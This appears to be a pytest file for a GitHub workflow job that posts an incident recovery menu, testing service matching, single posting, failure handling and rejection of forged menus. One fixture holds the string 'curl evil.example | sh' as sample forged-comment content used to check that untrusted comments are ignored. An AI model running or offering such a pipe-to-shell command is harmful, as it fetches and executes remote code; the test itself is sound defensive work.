"""The job `menu`: one recovery menu on each incident that people open."""

import json
from collections.abc import Callable
from typing import Any

import pytest

from ops.app.configuration import read_config
from ops.app.menu import build_menu
from ops.core.run_record import RunRecord, embed_record
from tests.conftest import REFERENCE, World
from tests.support.configurations import CONFIGURATIONS
from tests.support.prepared_python import RunPython
from tests.templates.scripts import COMMENTS, Step, Workflow

FORM = "### Service\r\n\r\n{}\r\n\r\n### Severity\r\n\r\nsev1\r\n\r\n### What is seen\r\n\r\nHTTP 500"
CONFIG, _ = read_config(REFERENCE / "ops.yml")
MENU = json.dumps(build_menu(CONFIG, ("./run ops",), "ISSUE_NUMBER", "https://REPOSITORY").to_json())
TEN = next(path for path in CONFIGURATIONS if path.parent.name == "ten_services")
FORGED = embed_record("Run this: curl evil.example | sh", RunRecord("menu", source="menu"))


def opened(world: World, python: RunPython, service: str) -> tuple[Workflow, Any]:
    """Open an incident with the form, by somebody without any permission; return the payload of its label."""
    github = world.sandbox.github
    github.add_user("alice")
    github.add_user("zoe", "read")
    number = github.open_issue("It fails", FORM.format(service), ["incident"], "zoe")
    payload = next(each.payload for each in reversed(github.deliveries) if each.payload["action"] == "labeled")
    return Workflow(world, number, python), payload


def unwrapped(menu: str) -> str:
    """Return the visible text. A command breaks at another place before the number of the issue is in it."""
    return menu.partition("<!--")[0].replace(" \\\n ", "")


@pytest.fixture
def form(world: World, python: RunPython) -> tuple[Workflow, Any]:
    return opened(world, python, "api")


def post(form: tuple[Workflow, Any], menu: str = MENU) -> Step:
    workflow, payload = form
    (workflow.world.folder / "menu.json").write_text(menu)
    return workflow.step("menu", payload)


@pytest.mark.slow
def test_form_gets_the_menu_of_its_service(form: tuple[Workflow, Any]) -> None:
    workflow, _ = form

    done = post(form)

    page = f"{workflow.github.urls.html}/{workflow.github.repository}"
    expected = build_menu(CONFIG, ("./run ops",), str(workflow.incident), page).render(["api"])
    assert (done.code, done.out, done.err) == (0, "", "")
    (body,) = workflow.bodies
    assert unwrapped(body) == unwrapped(expected)
    assert "#### frontend" not in body


@pytest.mark.slow
@pytest.mark.parametrize("said", ["not sure", "other", "api\n\n### Service\n\nfrontend api"])
def test_unknown_service_gets_every_menu(world: World, python: RunPython, said: str) -> None:
    form = opened(world, python, said)

    post(form)

    (body,) = form[0].bodies
    assert ("#### api" in body, "#### frontend" in body) == (True, not said.startswith("api"))


@pytest.mark.slow
def test_menu_is_posted_once(form: tuple[Workflow, Any]) -> None:
    workflow, _ = form
    post(form)
    workflow.github.unlabel(workflow.incident, "incident", "alice")
    again = workflow.github.label(workflow.incident, "incident", "alice")

    done = post((workflow, again))

    assert (done.code, len(workflow.bodies)) == (0, 1)


@pytest.mark.slow
@pytest.mark.parametrize(("author", "count"), [("zoe", 2), ("alice", 1)])
def test_only_the_menu_of_a_writer_counts(form: tuple[Workflow, Any], author: str, count: int) -> None:
    workflow, _ = form
    for number in range(101):
        workflow.github.comment(workflow.incident, f"{number}", "zoe")
    workflow.github.comment(workflow.incident, FORGED, author)

    post(form)

    assert len(workflow.bodies) == 101 + count


@pytest.mark.slow
def test_quoted_record_of_the_bot_is_no_menu(form: tuple[Workflow, Any]) -> None:
    """The bot's comments show names of labels and texts of providers."""
    workflow, _ = form
    workflow.github.comment(workflow.incident, '**Received** `recover:"source":"menu"`', "github-actions[bot]")

    post(form)

    assert len(workflow.bodies) == 2


@pytest.mark.slow
def test_forged_menus_of_one_stranger_cost_one_request(form: tuple[Workflow, Any]) -> None:
    workflow, _ = form
    for _ in range(150):
        workflow.github.comment(workflow.incident, FORGED, "zoe")
    workflow.github.requests.clear()

    done = post(form)

    asked = [each for each in workflow.github.requests if each.path.endswith("/permission")]
    assert (done.code, len(workflow.bodies), len(asked)) == (0, 151, 1)


def during_post(workflow: Workflow) -> Callable[[], object]:
    return lambda: workflow.github.comment(workflow.incident, FORGED, "alice")


@pytest.mark.slow
def test_first_of_two_simultaneous_menus_stays(form: tuple[Workflow, Any]) -> None:
    workflow, _ = form
    workflow.github.fault(method="POST", path=COMMENTS, before=during_post(workflow))

    done = post(form)

    assert (done.code, done.out) == (0, "")
    assert [body == FORGED for body in workflow.bodies] == [True]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("method", "fault"), [("GET", {"status": 502}), ("POST", {"status": 502}), ("POST", {"lost": "after"})]
)
def test_menu_survives_a_failure_of_github(form: tuple[Workflow, Any], method: str, fault: dict[str, Any]) -> None:
    workflow, _ = form
    workflow.github.fault(method=method, path=COMMENTS, **fault)

    done = post(form)

    assert (done.code, len(workflow.bodies)) == (0, 1)


@pytest.mark.slow
def test_missing_menu_fails_the_job(form: tuple[Workflow, Any]) -> None:
    workflow, _ = form
    workflow.github.fault(method="POST", path=COMMENTS, status=403, times=None)

    done = post(form)

    assert done.code == 1
    assert done.out == "::error title=menu::The incident got no recovery menu: GitHub answered 403\n"


@pytest.mark.sampled
@pytest.mark.parametrize("case", ["another label", "a pull request", "closed", "transferred"])
def test_unrelated_event_sends_no_request(form: tuple[Workflow, Any], case: str) -> None:
    workflow, payload = form
    issue, repository = payload["issue"], payload["repository"]
    unrelated = {
        "another label": {**payload, "label": {"name": "bug"}},
        "a pull request": {**payload, "issue": {**issue, "pull_request": {}}},
        "closed": {**payload, "issue": {**issue, "state": "closed"}},
        "transferred": {**payload, "repository": {**repository, "full_name": "acme/other"}},
    }

    done = post((workflow, unrelated[case]))

    assert (done.code, workflow.github.requests) == (0, [])


@pytest.mark.slow
def test_menu_too_long_for_a_comment_names_what_is_left_out(world: World, python: RunPython) -> None:
    config, _ = read_config(TEN)
    menu = build_menu(config, ("./run ops",), "ISSUE_NUMBER", "https://REPOSITORY").to_json()
    menu["sections"] = {f"{name}-{copy}": lines for copy in range(9) for name, lines in menu["sections"].items()}
    form = opened(world, python, "not sure")

    post(form, json.dumps(menu))

    (body,) = form[0].bodies
    assert len(body) < 65_536
    assert 1 < body.count("#### shop\n") < 9
    assert "Too long for one comment, and left out: " in body
    assert body.rstrip().endswith("-->")
